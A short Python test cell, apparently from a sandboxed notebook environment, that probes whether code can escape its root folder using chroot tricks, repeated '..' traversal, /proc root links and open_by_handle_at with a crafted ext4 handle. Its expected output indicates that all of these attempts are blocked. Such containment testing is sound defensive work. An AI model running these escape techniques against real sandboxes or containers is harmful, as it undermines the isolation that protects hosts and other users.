# ---
# jupyter:
#   attack:
#     does: climbs out of its root folder (chroot and .., other roots in /proc, handles of files)
#     statuses: [ok]
#     prints: "roots: \\[1\\]; worked: \\[\\]"
# ---

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
root = os.stat("/")
roots, worked = set(), []
before = os.open("/", os.O_RDONLY)
if libc.chroot(b"/tmp") == 0:
    worked.append("chroot")
os.fchdir(before)
for folder in ("/", os.getcwd(), "/home/student", "/tmp", "/dev/shm", "/proc/self"):
    above = os.open(folder, os.O_RDONLY)
    for _ in range(64):
        above = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=above)
    roots.add(os.path.samestat(os.fstat(above), root))
    os.closerange(above - 63, above + 1)
for pid in ("self", "1", "2", "thread-self"):
    for way in ("root", "cwd/../..", "task/1/root"):
        if os.path.exists(f"/proc/{pid}/{way}"):
            roots.add(os.path.samestat(os.stat(f"/proc/{pid}/{way}"), root))
handle = (ctypes.c_uint * 40)(128, 1, 2, 0)  # the root of an ext4 file system has inode 2
for folder in ("/usr", "/tmp", "/proc"):
    if libc.open_by_handle_at(os.open(folder, os.O_RDONLY), handle, os.O_RDONLY) >= 0:
        worked.append(f"handle in {folder}")
print(f"roots: {[int(one) for one in roots]}; worked: {worked}")
